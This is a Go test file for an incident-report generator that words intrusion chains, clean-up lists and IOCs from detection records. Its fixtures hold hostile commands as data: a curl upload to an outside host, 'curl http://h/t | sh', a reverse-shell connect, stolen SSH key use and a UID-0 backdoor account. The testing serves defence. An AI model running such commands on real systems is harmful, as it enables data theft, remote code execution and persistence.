package report

import (
	"strings"
	"testing"
	"time"
)

// claimsDoc is one told chain whose clean-up list must word each claim as
// what the records show: an unlink record is a deletion, an rm command
// line only names one; a key copied, a key generated and a key of the
// host's own are three different things to do; the host's own files the
// intruder wrote into are to clean, not indicators to hunt elsewhere.
func claimsDoc() *Document {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	n := 0
	proc := func(pid int, args ...string) *DocProcess {
		return &DocProcess{PID: pid, Exe: "/usr/bin/" + args[0], Args: args, User: "www-data", UID: 33,
			Ancestors: []DocAncestor{{PID: 900, Exe: "/usr/sbin/php-fpm8.2"}}}
	}
	f := func(kind, file string, p *DocProcess) DocFinding {
		n++
		return DocFinding{ID: FindingID(n - 1), Title: "T", Severity: "high", Stage: 8, StageID: "exfiltration-impact",
			Time: t0.Add(time.Duration(n) * time.Second), Kind: kind, File: file, Process: p, ChainID: "C01", Outcome: OutcomeSuccess}
	}
	fs := []DocFinding{
		f("exec", "", proc(10, "cp", "/srv/backup/deploy_key", "/tmp/.k")),
		f("exec", "", proc(11, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/var/tmp/.g")),
		f("exec", "", proc(12, "ssh", "-i", "/tmp/.k", "deploy@10.0.0.5", "id")),
		f("exec", "", proc(13, "ssh", "-i", "/var/tmp/.g", "op@203.0.113.9")),
		f("exec", "", proc(14, "ssh", "-i", "/home/app/.ssh/id_publish", "deploy@10.0.0.6")),
		f("file-write", "/home/app/.ssh/authorized_keys", proc(15, "sh", "-i")),
		f("file-write", "/var/www/html/x.php", proc(16, "php-fpm8.2")),
		f("exec", "", proc(17, "rm", "-f", "/tmp/.k", "/var/www/html/x.php")),
		f("unlink", "/var/www/html/x.php", proc(17, "rm", "-f", "/tmp/.k", "/var/www/html/x.php")),
	}
	ids := make([]string, len(fs))
	for i := range fs {
		ids[i] = fs[i].ID
	}
	return &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 10 + 9, FindingIDs: ids,
		Stages: []DocStage{{Stage: 8, StageID: "exfiltration-impact", Name: "Exfiltration / impact", Observed: true, Confidence: "observed", FindingIDs: ids}}}}}
}

func TestCleanupClaimsSayWhatTheRecordsShow(t *testing.T) {
	d := claimsDoc()
	buildSummary(d)
	detail := map[string]string{}
	for _, c := range d.Summary.Cleanup {
		detail[c.Kind+" "+c.What] += c.Detail
	}
	for _, tc := range []struct {
		item      string
		want, not []string
	}{
		// the unlink record shows the deletion
		{"file /var/www/html/x.php", []string{"deleted later by rm[17]", "(F0009)"}, []string{"inferred"}},
		// only rm's command line names /tmp/.k: no record of the unlink
		{"file /tmp/.k", []string{"deleted later by rm[17]", "inferred from its command line"}, nil},
		{"key /tmp/.k", []string{"a copy of /srv/backup/deploy_key", "rotate /srv/backup/deploy_key"}, []string{"rotate the key it is a copy of"}},
		{"key /var/tmp/.g", []string{"made by `ssh-keygen", "remove it"}, []string{"copy"}},
		{"key /home/app/.ssh/id_publish", []string{"rotate it"}, []string{"copy"}},
		{"key /home/app/.ssh/authorized_keys", []string{"written by sh[15]", "remove the keys the intruder added"}, nil},
	} {
		got, ok := detail[tc.item]
		if !ok {
			t.Errorf("no clean-up item %q in %v", tc.item, detail)
			continue
		}
		wantPhrases(t, tc.item, got, tc.want, tc.not)
	}
	groups := map[string]string{}
	for _, g := range cleanGroups(d.Summary.Cleanup) {
		groups[g.Kind] = strings.Join(g.What, ", ")
	}
	if g := groups[CleanFile]; !strings.Contains(g, "/var/www/html/x.php (deleted since)") || !strings.Contains(g, "/tmp/.k (deleted since, inferred)") {
		t.Errorf("files line %q: want the recorded deletion plain and the command-line one marked inferred", g)
	}
	// Key IOCs: what the intruder made is worth hunting elsewhere; the
	// host's own key and its authorized_keys are not indicators
	iocs := map[string]string{}
	for _, k := range d.Summary.KeyIOCs {
		iocs[k.Value] = k.Note
	}
	for v, want := range map[string]bool{"/tmp/.k": true, "/var/tmp/.g": true, "/var/www/html/x.php": true,
		"/home/app/.ssh/id_publish": false, "/home/app/.ssh/authorized_keys": false} {
		if _, ok := iocs[v]; ok != want {
			t.Errorf("key IOC %s listed: %v, want %v (%v)", v, ok, want, iocs)
		}
	}
	if n := iocs["/var/www/html/x.php"]; strings.Contains(n, "dropped") || !strings.HasPrefix(n, "written in this intrusion by php-fpm8.2[16]") {
		t.Errorf("x.php: %q: a write does not show the file was new", n)
	}
}

// One line per kind in the checklist, whichever chains the items come from.
func TestCleanGroupsOneLinePerKind(t *testing.T) {
	cs := []DocCleanup{
		{Kind: CleanFile, What: "/a", ChainID: "C01"}, {Kind: CleanChannel, What: "1.2.3.4:1", ChainID: "C01"},
		{Kind: CleanPersistence, What: "/etc/cron.d/x", ChainID: "C02"}, {Kind: CleanChannel, What: "1.2.3.4:2", ChainID: "C02"},
	}
	seen := map[string]int{}
	for _, g := range cleanGroups(cs) {
		seen[g.Label]++
	}
	for l, n := range seen {
		if n > 1 {
			t.Errorf("%q %d times in %v", l, n, cleanGroups(cs))
		}
	}
}

// A stage whose requests are seen but whose role is inferred is not "not
// seen": the sentence names the rule and lists the requests.
func TestInferredStageWithRequestsIsNotUnseen(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		name      string
		requests  []DocRequest
		want, not string
	}{
		{"requests seen", []DocRequest{{Time: t0, Client: "203.0.113.7", Method: "GET", URL: "/status.php", Status: 200}},
			"Initial access (inferred as the way in: the first request is taken as the exploit request): requests GET /status.php", "not seen"},
		{"nothing seen", nil, "Initial access (not seen, inferred: as the way in", ""},
	} {
		sg := DocStage{Stage: 1, StageID: "initial-access", Name: "Initial access", Observed: true, Confidence: "inferred",
			Reason: "inferred as the way in: the first request is taken as the exploit request; 1 request(s) in the access log", Requests: tc.requests}
		ch := &DocChain{ID: "C01", Stages: []DocStage{sg}}
		got := sentence(ch, sg, map[string]*DocFinding{}, "").Text
		if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
			t.Errorf("%s: %q, want %q without %q", tc.name, got, tc.want, tc.not)
		}
	}
}

// A stage's sentence words each connect by what its record shows: a
// reverse shell's connect is a channel, any other connect is a connect; a
// non-blocking connect whose result the log does not hold is not
// "connected"; a failed one is an attempt.
func TestStageSentencePeersSayTheOutcome(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	n := 0
	conn := func(stage int, peer, rule, reason, outcome, why string) DocFinding {
		n++
		title := "Outbound Connection"
		if strings.HasPrefix(reason, "a shell acting") {
			title = "Reverse Shell Connection"
		}
		return DocFinding{ID: FindingID(n - 1), RuleID: rule, Title: title, Severity: "high", Stage: stage, Time: t0.Add(time.Duration(n) * time.Second),
			Kind: "connect", Peer: peer, Reason: reason, Outcome: outcome, OutcomeReason: why, ChainID: "C01",
			Process: &DocProcess{PID: 10 + n, Exe: "/usr/bin/curl", Args: []string{"curl"}}}
	}
	for _, tc := range []struct {
		name      string
		stage     int
		fs        []DocFinding
		want, not []string
	}{
		{"reverse shell and a plain connect", 7, []DocFinding{
			conn(7, "203.0.113.7:4444", "web-reverse-shell-connect", "a shell acting for the web server connects out: a reverse shell", OutcomeSuccess, ""),
			conn(7, "203.0.113.8:8000", "web-outbound-connect", "outbound connection from a process acting for the web server", OutcomeSuccess, ""),
			// the reverse-shell rule placing a raw upload: the match is an upload
			conn(7, "203.0.113.9:9002", "web-reverse-shell-connect", "connection of a command that sends data out; re-entry … reverse shell", OutcomeSuccess, ""),
		}, []string{"channel to 203.0.113.7:4444", "connected to 203.0.113.8:8000, 203.0.113.9:9002"}, []string{"channel to 203.0.113.7:4444, 203.0.113.8:8000"}},
		{"non-blocking", 8, []DocFinding{
			conn(8, "203.0.113.8:8000", "web-outbound-connect", "connection of a command that sends data out", OutcomeUnknown, "EINPROGRESS: a non-blocking connect whose result the log does not record"),
		}, []string{"connect to 203.0.113.8:8000 (non-blocking: the log does not record whether it connected)"}, []string{"connected to"}},
		{"one of two connects of a peer took effect", 8, []DocFinding{
			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeUnknown, "EINPROGRESS"),
			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeSuccess, ""),
		}, []string{"connected to 203.0.113.8:8000"}, []string{"non-blocking"}},
		{"refused", 8, []DocFinding{
			conn(8, "203.0.113.9:9001", "web-outbound-connect", "", OutcomeFailure, "ECONNREFUSED (connection refused)"),
		}, []string{"tried to connect to 203.0.113.9:9001, which failed: ECONNREFUSED (connection refused)"}, []string{"connected to"}},
	} {
		byID := map[string]*DocFinding{}
		var ids []string
		for i := range tc.fs {
			byID[tc.fs[i].ID] = &tc.fs[i]
			ids = append(ids, tc.fs[i].ID)
		}
		sg := DocStage{Stage: tc.stage, Name: "Stage", Observed: true, Confidence: "observed", FindingIDs: ids}
		got := sentence(&DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg}}, sg, byID, "").Text
		wantPhrases(t, tc.name, got, tc.want, tc.not)
	}
}

// The clean-up's channels say what the records show: a connect whose
// result is not recorded did not surely open a connection, and a URL in a
// command line names a peer, it does not show traffic.
func TestCleanupChannelsSayWhatTheRecordsShow(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	p := &DocProcess{PID: 30, Exe: "/usr/bin/curl", Args: []string{"curl", "-T", "/tmp/a", "http://203.0.113.8:8000/u"}}
	fs := []DocFinding{
		{ID: "F0001", Title: "T", Severity: "high", Stage: 8, StageID: "exfiltration-impact", Time: t0, Kind: "exec", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
		{ID: "F0002", Title: "T", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect", Peer: "203.0.113.7:4444",
			Process: p, ChainID: "C01", Outcome: OutcomeUnknown, OutcomeReason: "EINPROGRESS"},
	}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 20 + 2, FindingIDs: []string{"F0001", "F0002"},
		Stages: []DocStage{{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0002"}},
			{Stage: 8, StageID: "exfiltration-impact", Name: "Exfiltration", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}}}}}}
	buildSummary(d)
	got := map[string]string{}
	for _, c := range d.Summary.Cleanup {
		got[c.What] = c.Detail
	}
	for what, want := range map[string]string{
		"203.0.113.7:4444": "connect by curl[30] at 10:00:00 UTC (non-blocking: the log does not record whether it connected)",
		"203.0.113.8:8000": "named in the command line of `curl -T /tmp/a http://203.0.113.8:8000/u` by curl[30]",
	} {
		if !strings.Contains(got[what], want) {
			t.Errorf("%s: %q, want %q", what, got[what], want)
		}
	}
	for what, d := range got {
		if strings.Contains(d, "talked to it") || strings.Contains(d, "connection opened") {
			t.Errorf("%s: %q", what, d)
		}
	}
}

// A host the intruder moved on to (a lateral-movement connect) is a victim
// to check, not attacker infrastructure to block, and no indicator to hunt.
func TestLateralPeerIsAHostReached(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	p := &DocProcess{PID: 40, Exe: "/usr/bin/ssh", Args: []string{"ssh", "deploy@10.0.0.5"}}
	fs := []DocFinding{
		{ID: "F0001", Title: "Outbound Connection", Severity: "medium", Stage: 6, StageID: "lateral-movement", Time: t0, Kind: "connect",
			Peer: "10.0.0.5:22", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
		{ID: "F0002", Title: "Reverse Shell Connection", Reason: "a reverse shell", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect",
			Peer: "203.0.113.7:4444", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
	}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 20 + 2, FindingIDs: []string{"F0001", "F0002"},
		Stages: []DocStage{{Stage: 6, StageID: "lateral-movement", Name: "Lateral movement", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}},
			{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0002"}}}}}}
	lines := checklist(d)
	if lines["Peers to block:"] != "203.0.113.7:4444" || lines["Hosts reached:"] != "10.0.0.5:22" {
		t.Errorf("checklist %v: want the reverse shell's peer to block and the ssh target as a host reached", lines)
	}
	for _, k := range d.Summary.KeyIOCs {
		if k.Value == "10.0.0.5:22" {
			t.Errorf("key IOC %+v: a host the intruder reached is the victim's", k)
		}
	}
}

// A lateral-movement stage words each command by what its match means: a
// port scan looked for services, it did not move anywhere.
func TestLateralSentenceScanIsNotMovement(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	ex := func(id string, reason string, attack []string, args ...string) DocFinding {
		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 6, StageID: "lateral-movement", Time: t0, Kind: "exec", Reason: reason,
			Attack: attack, ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: 50, Exe: "/usr/bin/" + args[0], Args: args}}
	}
	for _, tc := range []struct {
		name      string
		fs        []DocFinding
		want, not string
	}{
		{"scan only", []DocFinding{ex("F0001", "a port scan: discovery of internal services before lateral movement (T1046)", nil, "nc", "-z", "10.0.0.5", "20-25")},
			"scanned with `nc -z 10.0.0.5 20-25`", "moved on"},
		{"ssh and a scan", []DocFinding{
			ex("F0001", "the command reaches another host or account", []string{"T1021.004"}, "ssh", "deploy@10.0.0.5"),
			ex("F0002", "a port scan: discovery of internal services", []string{"T1046"}, "nc", "-z", "10.0.0.6", "22")},
			"moved on with `ssh deploy@10.0.0.5` and scanned with `nc -z 10.0.0.6 22`", ""},
	} {
		byID := map[string]*DocFinding{}
		var ids []string
		for i := range tc.fs {
			byID[tc.fs[i].ID] = &tc.fs[i]
			ids = append(ids, tc.fs[i].ID)
		}
		sg := DocStage{Stage: 6, StageID: "lateral-movement", Name: "Lateral movement", Observed: true, Confidence: "observed", FindingIDs: ids}
		got := sentence(&DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg}}, sg, byID, "").Text
		if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
			t.Errorf("%s: %q, want %q without %q", tc.name, got, tc.want, tc.not)
		}
	}
}

// A re-entry through a backdoor is a conclusion of ours (the requests'
// routes never ran such commands before the plant): its sentence is marked
// inferred and names the rule.
func TestReentrySentenceIsInferred(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	ch := &DocChain{ID: "C01", Requests: []DocRequest{
		{Time: t0, Method: "GET", URL: "/help.php", PID: 10, Args: []string{"/usr/bin/id"}, Backdoor: "/srv/www/.user.ini"},
	}}
	ss := reentrySentences(ch, map[string]*DocFinding{})
	if len(ss) != 1 {
		t.Fatalf("%d sentences", len(ss))
	}
	if !ss[0].Inferred || !strings.Contains(ss[0].Text, "Re-entry through the backdoor /srv/www/.user.ini (inferred: ") {
		t.Errorf("%+v: want it marked inferred, with its rule", ss[0])
	}
}

// A finding's "in this chain" link explains its own act: a file's link
// (its write, its upload) does not explain a later deletion by another
// process, which is in the chain through its own ancestry.
func TestFindingLinkOfADeletion(t *testing.T) {
	x := newLinkIndex([]string{
		"entry point: the write of /var/www/html/uploads/probe.txt came from one of 2 requests in flight",
		"ancestry: pid 1477 (dash) spawned by php-fpm8.2 pid 554",
	})
	rm := &DocProcess{PID: 1978, Exe: "/usr/bin/rm", Ancestors: []DocAncestor{{PID: 1479, Exe: "/usr/bin/bash"}, {PID: 1477, Exe: "/usr/bin/dash"}}}
	for _, tc := range []struct {
		f    DocFinding
		want string
	}{
		{DocFinding{Kind: "unlink", File: "/var/www/html/uploads/probe.txt", Process: rm}, "through its ancestor dash[1477]: ancestry: pid 1477"},
		{DocFinding{Kind: "rename", File: "/var/www/html/uploads/probe.txt", Process: &DocProcess{PID: 553, Exe: "/usr/sbin/php-fpm8.2"}}, "entry point: the write of"},
	} {
		if got := x.findingLink(&tc.f); !strings.HasPrefix(got, tc.want) {
			t.Errorf("%s %s by %d: link %q, want %q", tc.f.Kind, tc.f.File, tc.f.Process.PID, got, tc.want)
		}
	}
}

// A process heading a family of its own (under init, its parent unseen)
// is in its chain by what ties the family there, not by its ancestry,
// which names no parent: that link is said first. A parent that is seen
// stays the reason.
func TestFindingLinkOfAFamilyHead(t *testing.T) {
	x := newLinkIndex([]string{
		"ancestry: pid 10848 (tclsh8.6) spawned by ? pid 1",
		"file: /usr/share/php/.zend-compat.tcl hidden by a timestomp (inferred: whoever hides a file placed it; no record of its write) of pid 9742 (touch) at 07:26:23.196, then named in the arguments of pid 10848 (tclsh8.6) at 07:27:02.580",
		"ancestry: pid 1477 (dash) spawned by php-fpm8.2 pid 554",
		"file: /tmp/x written by pid 1400 (curl) at 07:00:00.000, then named in the arguments of pid 1477 (dash) at 07:00:01.000",
	})
	for _, tc := range []struct {
		f    DocFinding
		want string
	}{
		{DocFinding{Kind: "exec", Process: &DocProcess{PID: 10848, Exe: "/usr/bin/tclsh8.6"}}, "file: /usr/share/php/.zend-compat.tcl hidden"},
		{DocFinding{Kind: "exec", Process: &DocProcess{PID: 10879, Exe: "/usr/bin/id", Ancestors: []DocAncestor{{PID: 10848, Exe: "/usr/bin/tclsh8.6"}}}}, "through its ancestor tclsh8.6[10848]: file: /usr/share/php/.zend-compat.tcl"},
		{DocFinding{Kind: "exec", Process: &DocProcess{PID: 1477, Exe: "/usr/bin/dash"}}, "ancestry: pid 1477 (dash) spawned by php-fpm8.2"},
	} {
		if got := x.findingLink(&tc.f); !strings.HasPrefix(got, tc.want) {
			t.Errorf("pid %d: link %q, want %q", tc.f.Process.PID, got, tc.want)
		}
	}
}

// "through requests to X" is said of the commands those requests caused,
// not of every command of the stage (a cron job's download beside them).
func TestStageSentenceThroughOnlyWhatRequestsCaused(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	ex := func(id string, pid int, anc []DocAncestor, args ...string) DocFinding {
		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: anc[0].PID, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: anc}}
	}
	fs := []DocFinding{
		ex("F0001", 30, []DocAncestor{{PID: 29, Exe: "/usr/sbin/cron"}}, "wget", "-O", "/var/www/data/rates.json", "http://h/rates.json"),
		ex("F0002", 20, []DocAncestor{{PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "sh", "-c", "curl -o /tmp/p.tgz http://h/p.tgz"),
		ex("F0003", 21, []DocAncestor{{PID: 20, Exe: "/usr/bin/dash"}, {PID: 9, Exe: "/usr/sbin/php-fpm8.2"}}, "curl", "-o", "/tmp/p.tgz", "http://h/p.tgz"),
	}
	byID := map[string]*DocFinding{}
	var ids []string
	for i := range fs {
		byID[fs[i].ID] = &fs[i]
		ids = append(ids, fs[i].ID)
	}
	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: ids}
	ch := &DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg},
		Requests: []DocRequest{{Time: t0, Method: "POST", URL: "/admin/plugins.php", Status: 200, Client: "10.0.0.9", PID: 20}}}
	want := "ran `curl -o /tmp/p.tgz http://h/p.tgz` through requests to /admin/plugins.php; ran `wget -O /var/www/data/rates.json http://h/rates.json`"
	for _, slim := range []bool{false, true} {
		if slim { // as the streamed JSON writer leaves them: no ancestors
			for i := range fs {
				fs[i] = slimFinding(fs[i])
			}
		}
		got := sentence(ch, sg, byID, "").Text
		if !strings.Contains(got, want) || strings.Contains(got, "rates.json`, ") {
			t.Errorf("slim %v: %q: want the cron job's wget apart from what the request ran (%q)", slim, got, want)
		}
	}
}

// wantPhrases fails the test for each phrase of want that got lacks and
// each of not that it holds.
func wantPhrases(t *testing.T, what, got string, want, not []string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("%s: %q lacks %q", what, got, w)
		}
	}
	for _, w := range not {
		if strings.Contains(got, w) {
			t.Errorf("%s: %q says %q", what, got, w)
		}
	}
}

// The summary line's IOC count says which list it counts: the IOC table
// (from the findings' records) and the key IOCs are different lists.
func TestSummaryLineCountsSayWhichIOCs(t *testing.T) {
	d := &Document{IOCs: []DocIOC{{Type: IOCFile, Value: "/a"}},
		Summary: &DocSummary{KeyIOCs: []DocKeyIOC{{Type: IOCAddress, Value: "203.0.113.7"}, {Type: IOCURL, Value: "/x.php"}}}}
	got := (&textRenderer{d: d}).summary()
	if want := "1 IOC from the findings' records, 2 key IOCs"; !strings.Contains(got, want) {
		t.Errorf("summary %q lacks %q", got, want)
	}
}

// A request's link quotes its URL and the command it ran: an address or a
// path inside that quoted text does not make the request the cause of
// another process's act. A connect by a process the request did not
// spawn (a beacon started later, elsewhere) is not "in this chain" through
// it; the peer's own link, or the process's ancestry, says why it is.
func TestFindingLinkNotThroughQuotedText(t *testing.T) {
	t0 := time.Date(2026, 12, 3, 15, 42, 37, 0, time.UTC)
	req := "request: GET /view.jsp?s=echo%20curl%20http://10.0.0.9:8001/u%20%3E%3E%20/srv/bin/setenv.sh at 15:42:37.000 → java pid 500 → /bin/sh -c echo 'curl http://10.0.0.9:8001/u' >> /srv/bin/setenv.sh (high confidence: parameter)"
	links := []string{
		req,
		"ancestry: pid 1550 (dash) spawned by java pid 500",
		"detached (inferred): pid 1611 (dash) started under init 8ms after pid 1610 (dash) ran a shell",
		"peer: 10.0.0.9:8001, a peer of command-and-control acts, connected to by pid 1612 (curl) at 15:42:41.734; seen in 17 connects",
	}
	ch := &DocChain{ID: "C01", Links: links, Requests: []DocRequest{
		{Time: t0, Method: "GET", URL: "/view.jsp?s=echo%20curl%20http://10.0.0.9:8001/u%20%3E%3E%20/srv/bin/setenv.sh", PID: 1550},
	}}
	curl := func(pid int) *DocProcess {
		return &DocProcess{PID: pid, PPID: 1611, Exe: "/usr/bin/curl", Ancestors: []DocAncestor{{PID: 1611, Exe: "/usr/bin/dash"}, {PID: 1}}}
	}
	sh := &DocProcess{PID: 1550, PPID: 500, Exe: "/usr/bin/dash", Ancestors: []DocAncestor{{PID: 500, Exe: "/usr/bin/java"}}}
	for _, tc := range []struct {
		name string
		f    DocFinding
		want string
	}{
		{"the beacon's first connect", DocFinding{ID: "F1", ChainID: "C01", Kind: "connect", Peer: "10.0.0.9:8001", Process: curl(1612)}, "peer: 10.0.0.9:8001,"},
		{"a later poll's connect", DocFinding{ID: "F2", ChainID: "C01", Kind: "connect", Peer: "10.0.0.9:8001", Process: curl(1712)}, "peer: 10.0.0.9:8001,"},
		{"the request's own write", DocFinding{ID: "F3", ChainID: "C01", Kind: "file-write", File: "/srv/bin/setenv.sh", Process: sh}, "request: GET /view.jsp"},
		{"a write by a process the request did not spawn", DocFinding{ID: "F4", ChainID: "C01", Kind: "file-write", File: "/srv/bin/setenv.sh", Process: curl(1812)}, "through its ancestor dash[1611]: detached"},
	} {
		ch.FindingIDs = []string{tc.f.ID}
		f := tc.f
		linkFindings(ch, map[string]*DocFinding{f.ID: &f})
		if !strings.HasPrefix(f.ChainLink, tc.want) {
			t.Errorf("%s: link %q, want %q", tc.name, f.ChainLink, tc.want)
		}
	}
}

// "(through requests to X)" is said of the files those requests' processes
// wrote, not of every file of the stage: the server's own write of a
// deployed archive's page, before any request to it, is told apart.
func TestStageSentenceFilesThroughOnlyWhatRequestsCaused(t *testing.T) {
	t0 := time.Date(2026, 12, 3, 15, 42, 18, 0, time.UTC)
	java := &DocProcess{PID: 500, Exe: "/usr/bin/java", User: "svc", UID: 2008}
	cp := &DocProcess{PID: 1499, PPID: 500, Exe: "/usr/bin/cp", User: "svc", UID: 2008,
		Args: []string{"cp", "/w/a/WEB-INF/p.jsp", "/w/stock/css/p.jsp"}, Ancestors: []DocAncestor{{PID: 500, Exe: "/usr/bin/java"}}}
	fs := []DocFinding{
		{ID: "F0001", Title: "W", Severity: "high", Stage: 2, StageID: "webshell-upload", Time: t0, Kind: "file-write",
			File: "/w/a/view.jsp", ChainID: "C01", Outcome: OutcomeSuccess, Process: java},
		{ID: "F0002", Title: "W", Severity: "high", Stage: 2, StageID: "webshell-upload", Time: t0.Add(17 * time.Second), Kind: "file-write",
			File: "/w/stock/css/p.jsp", ChainID: "C01", Outcome: OutcomeSuccess, Process: cp},
	}
	byID := map[string]*DocFinding{}
	for i := range fs {
		byID[fs[i].ID] = &fs[i]
	}
	sg := DocStage{Stage: 2, StageID: "webshell-upload", Name: "Web shell upload", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
	ch := &DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg},
		Requests: []DocRequest{{Time: t0.Add(17 * time.Second), Method: "GET", URL: "/a/view.jsp?c=cp", Status: 200, Client: "10.0.0.9", PID: 1499}}}
	got := sentence(ch, sg, byID, "").Text
	want := "wrote /w/stock/css/p.jsp (through requests to /a/view.jsp); wrote /w/a/view.jsp"
	if !strings.Contains(got, want) {
		t.Errorf("%q: want %q", got, want)
	}
}

// A process whose request is ambiguous (several candidates, none picked)
// did not run "through requests to X" of another request of the stage: the
// sentence lists it apart.
func TestStageSentenceAmbiguousRequestNotThrough(t *testing.T) {
	t0 := time.Date(2026, 12, 3, 15, 42, 31, 0, time.UTC)
	java := DocAncestor{PID: 500, Exe: "/usr/bin/java"}
	ex := func(id string, pid int, args ...string) DocFinding {
		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: 500, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: []DocAncestor{java}}}
	}
	fs := []DocFinding{
		ex("F0001", 1326, "cat", "/srv/conf/users.xml"),
		ex("F0002", 1610, "sh", "-c", "setsid sh -c 'curl http://h/t | sh' &"),
	}
	byID := map[string]*DocFinding{}
	for i := range fs {
		byID[fs[i].ID] = &fs[i]
	}
	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
	ch := &DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}, Requests: []DocRequest{
		{Time: t0, Method: "GET", URL: "/a/view.jsp?c=cat", Status: 200, Client: "10.0.0.9", PID: 1326},
		{Time: t0.Add(10 * time.Second), PID: 1610, LinkBasis: "ambiguous", Inferred: true,
			Candidates: []DocRequest{{Method: "GET", URL: "/stock/css/print.jsp"}, {Method: "GET", URL: "/stock/"}}},
	}}
	got := sentence(ch, sg, byID, "").Text
	if want := "ran `cat /srv/conf/users.xml` through requests to /a/view.jsp; ran `setsid"; !strings.Contains(got, want) {
		t.Errorf("%q: want %q", got, want)
	}
}

// An account in the clean-up list is an account: the one the command
// names, never a file (/etc/group) or the tool (chpasswd, whose names come
// on its standard input and are in no record); the account databases are
// files the intruder changed, and a sudoers drop-in is persistence
// (shop-reviews had listed "/etc/group" and "chpasswd" as accounts).
func TestCleanupAccountsAreAccounts(t *testing.T) {
	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
	n := 0
	f := func(kind, file string, args ...string) DocFinding {
		n++
		var p *DocProcess
		if len(args) > 0 {
			p = &DocProcess{PID: 100 + n, Exe: "/usr/sbin/" + args[0], Args: args, User: "root", UID: 0}
		} else {
			p = &DocProcess{PID: 100 + n, Exe: "/usr/sbin/useradd", Args: []string{"useradd"}, User: "root"}
		}
		return DocFinding{ID: FindingID(n - 1), Title: "T", Severity: "high", Stage: 5, StageID: "persistence",
			Time: t0.Add(time.Duration(n) * time.Second), Kind: kind, File: file, Process: p, ChainID: "C01", Outcome: OutcomeSuccess}
	}
	fs := []DocFinding{
		f("exec", "", "useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "-c", "system maintenance", "sysmaint"),
		f("exec", "", "chpasswd"),
		f("exec", "", "usermod", "-L", "alice"),
		f("exec", "", "chage", "-E", "0", "bob"),
		f("exec", "", "passwd", "-l", "carol"),
		f("exec", "", "useradd", "-c", "x", "-s", "/bin/sh"),
		f("file-write", "/etc/group"),
		f("file-write", "/etc/sudoers.d/90-ops"),
	}
	ids := make([]string, len(fs))
	for i := range fs {
		ids[i] = fs[i].ID
	}
	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "high", FindingIDs: ids,
		Stages: []DocStage{{Stage: 5, StageID: "persistence", Name: "Persistence", Observed: true, Confidence: "observed", FindingIDs: ids}}}}}
	buildSummary(d)
	kinds, details := map[string]string{}, map[string]string{}
	for _, c := range d.Summary.Cleanup {
		kinds[c.What] = c.Kind
		details[c.What] += c.Detail
	}
	for _, locked := range []string{"alice", "bob", "carol"} {
		if !strings.Contains(details[locked], "restore its owner's access") {
			t.Errorf("%s: %q does not say the account was locked out", locked, details[locked])
		}
	}
	if strings.Contains(details["sysmaint"], "restore") {
		t.Errorf("sysmaint (added) worded as locked out: %q", details["sysmaint"])
	}
	for what, want := range map[string]string{
		"sysmaint": CleanAccount, "alice": CleanAccount, "bob": CleanAccount, "carol": CleanAccount,
		"(read by chpasswd)": CleanAccount, "/etc/group": CleanFile, "/etc/sudoers.d/90-ops": CleanPersistence,
	} {
		if got := kinds[what]; got != want {
			t.Errorf("%q: kind %q, want %q (all: %v)", what, got, want, kinds)
